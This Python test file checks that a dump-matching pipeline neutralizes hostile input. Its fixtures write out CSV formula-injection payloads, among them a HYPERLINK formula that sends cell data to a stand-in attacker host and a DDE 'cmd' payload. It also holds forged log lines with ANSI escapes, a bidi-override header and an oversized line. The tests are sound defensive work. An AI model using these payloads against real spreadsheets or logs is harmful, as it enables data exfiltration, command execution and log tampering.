"""Hostile dumps: a dump is written by the adversary, so its bytes must not run as spreadsheet formulas, forge
log lines, or exhaust memory.

Covered elsewhere, not repeated here: zip members with absolute or ``..`` paths and zip bombs
(tests/test_ingest.py::test_zip_path_traversal_is_refused, ::test_zip_bomb_is_refused), gzip bombs
(::test_gzip_bomb_stops_at_the_ratio), truncated archives (::test_truncated_archive_is_never_a_silent_short_read);
the HTML report's escaping is tested with the report.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from pipelines import cli, match
from tests.conftest import sketched_base, write_csv
from transforms import outputs

COMMAND_SECONDS = 120
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "  =1+1",
    "\uff1d1+1",
]
# A value that, printed raw, would end the current log line, start a forged one and hide itself.
FORGED = "x\n2026-11-29 22:00:00,000 INFO dumpmatch: all clear, nothing matched\x1b[2K\x1b[1A"
MEMBER = "evil\nFORGED 2026-11-29 ERROR dumpmatch verdict genuine\x1b[31m.csv"
HEADER = "E-Mail\u202e"  # a right-to-left override: folds to "email", so it is mapped and logged
RECORD_CAP = 64 << 10
LONG_LINE = 96 << 20  # 1,536 times the cap


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> dict:
    folder = tmp_path_factory.mktemp("hostile")
    key, base = sketched_base(folder, 100)
    return {"folder": folder, "key": key, "base": base, "bundle": folder / "bundle"}


def _match(world: dict, dumps: list[str], out: Path, *extra: str) -> list[str]:
    return [
        *["match", "--bundle", str(world["bundle"]), "--dump", *dumps, "--out", str(out)],
        *["--key-file", str(world["key"]), *extra],
    ]


@pytest.mark.parametrize("value", [*FORMULAS, "\r=1+1"])
def test_a_cell_a_spreadsheet_would_evaluate_is_neutralized(value: str) -> None:
    assert outputs.neutralize(pa.array([value, "ann@example.com", None])).to_pylist() == [
        "'" + value,
        "ann@example.com",
        None,
    ]


def test_csv_copies_of_candidates_and_dead_letters_run_no_formula(
    world: dict, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Dump lines that are formulas land in dead_letter.csv, and a dump file named like one is every row's
    source_file in candidates.csv: no cell may start a formula, and each is the Parquet value behind a '."""
    monkeypatch.chdir(tmp_path)
    name = "=HYPERLINK(1).csv"
    write_csv(tmp_path / name, world["base"].slice(0, 30))
    with (tmp_path / name).open("a", encoding="utf-8") as dump:
        dump.writelines(f"{value}\n" for value in FORMULAS)
    report = match.run(_match(world, [name], tmp_path / "run", "--csv"))
    assert report["records"]["candidates"] == 30 and report["rows"]["dead_lettered"] == len(FORMULAS)
    for table in ("candidates", "dead_letter"):
        text = (tmp_path / "run" / f"{table}.csv").read_text(encoding="utf-8-sig")
        header, *rows = list(csv.reader(io.StringIO(text, newline="")))
        parquet = pq.read_table(tmp_path / "run" / table).to_pylist()
        assert len(rows) == len(parquet) > 0
        for row, stored in zip(rows, parquet, strict=True):
            for column, cell in zip(header, row, strict=True):
                assert not cell.lstrip(" ").startswith(outputs.FORMULA_PREFIXES), (table, column, cell)
                value = stored[column]
                if isinstance(value, str) and value.lstrip(" ").startswith(outputs.FORMULA_PREFIXES):
                    assert cell == "'" + value
    raws = {r["raw"] for r in pq.read_table(tmp_path / "run" / "dead_letter").to_pylist()}
    assert {v.strip() for v in FORMULAS} <= {r.strip() for r in raws}


def test_names_and_values_of_a_dump_cannot_forge_or_hide_log_lines(world: dict, tmp_path: Path) -> None:
    """A zip member whose name holds a newline and ANSI codes, a header with a bidi override, and values
    holding whole forged log lines, read at DEBUG: every stderr line is one record of ours, no escape
    sequence reaches the terminal, no value is logged, and the names that are logged are escaped."""
    rows = world["base"].slice(0, 20).to_pylist()
    sink = io.StringIO()
    writer = csv.writer(sink)
    writer.writerow([HEADER, "Name", "Notes"])
    writer.writerows([r["email"], f"{r['first_name']} {r['last_name']}", FORGED] for r in rows)
    writer.writerow([FORGED, "ragged"])
    archive = tmp_path / "dump.zip"
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr(MEMBER, sink.getvalue())
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "pipelines.cli",
            *_match(world, [str(archive)], tmp_path / "run"),
            "--log-level",
            "debug",
        ],
        capture_output=True,
        timeout=COMMAND_SECONDS,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    err = done.stderr.decode("utf-8")
    assert "\x1b" not in err and "\r" not in err and "\u202e" not in err
    lines = err.splitlines()
    assert len(lines) > 100 and all((line[:4].isdigit() and " DEBUG " in line) or " INFO " in line for line in lines)
    assert not any("all clear" in line or line.startswith("FORGED") for line in lines)
    assert not any(r["email"] in err for r in rows)
    escaped = MEMBER.replace("\n", "\\n").replace("\x1b", "\\x1b")
    assert f"{archive}!{escaped}: csv" in err and "E-Mail\\u202e" in err, "names reach the log, escaped"


def test_an_error_naming_hostile_headers_stays_one_line(world: dict, tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    dump = tmp_path / "dump.csv"
    dump.write_bytes(b'"a\nb\x1b[31m",c\x1b]0;title\x07\nx,y\n')
    assert cli.main(_match(world, [str(dump)], tmp_path / "run")) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "\x1b" not in err and "\x07" not in err and "no column is recognised" in err


def _dumps(folder: Path, base: pa.Table, long_line: int) -> list[str]:
    """The same 50 customers in a plain and a gzip CSV, with a line of ``long_line`` bytes in the middle."""
    rows = [f"{r['email']},{r['phone']}\n".encode() for r in base.slice(0, 50).to_pylist()]
    parts = [b"email,phone\n", *rows[:25]]
    if long_line:
        parts.append(b"big@example.com," + b"A" * long_line + b"\n")
    parts += rows[25:]
    plain, packed = folder / "dump.csv", folder / "dump.csv.gz"
    with plain.open("wb") as out, gzip.open(packed, "wb", compresslevel=1) as zipped:
        for part in parts:
            for start in range(0, len(part), 8 << 20):
                out.write(part[start : start + (8 << 20)])
                zipped.write(part[start : start + (8 << 20)])
    return [str(plain), str(packed)]


def test_a_line_far_over_the_cap_is_dead_lettered_in_bounded_memory(world: dict, tmp_path: Path) -> None:
    """A 96 MiB line (the issue's 2 GB one, scaled down with the cap) in a plain and a gzip input: each
    becomes one dead letter naming the cap, the rows after it keep their lines, and the run's peak memory
    stays within half the line's size of the same run without it."""
    runs = {}
    for name, size in (("without", 0), ("with", LONG_LINE)):
        folder = tmp_path / name
        folder.mkdir()
        argv = _match(world, _dumps(folder, world["base"], size), folder / "run")
        argv += ["--max-record-bytes", str(RECORD_CAP), "--max-compression-ratio", "1e9"]
        runs[name] = subprocess.Popen([sys.executable, "-m", "tests.peak_memory", *argv], stdout=subprocess.PIPE)
    peaks = {}
    for name, process in runs.items():
        out, _ = process.communicate(timeout=COMMAND_SECONDS)
        assert process.returncode == 0
        peaks[name] = int(out.split()[-1]) << 10
    report = json.loads((tmp_path / "with" / "run" / "report.json").read_text())
    assert report["rows"] == {"read": 104, "parsed": 100, "dead_lettered": 2, "headers": 2}
    dead = pq.read_table(tmp_path / "with" / "run" / "dead_letter").to_pylist()
    assert [(d["line"], d["reason"]) for d in dead] == [
        (27, f"record of {LONG_LINE + 17} bytes is longer than {RECORD_CAP} (--max-record-bytes): not parsed")
    ] * 2
    lines = pq.read_table(tmp_path / "with" / "run" / "candidates").column("line").to_pylist()
    assert sorted(set(lines)) == [*range(2, 27), *range(28, 53)]
    grown = peaks["with"] - peaks["without"]
    assert grown < LONG_LINE // 2, f"peak memory grew by {grown >> 20} MiB for a {LONG_LINE >> 20} MiB line"
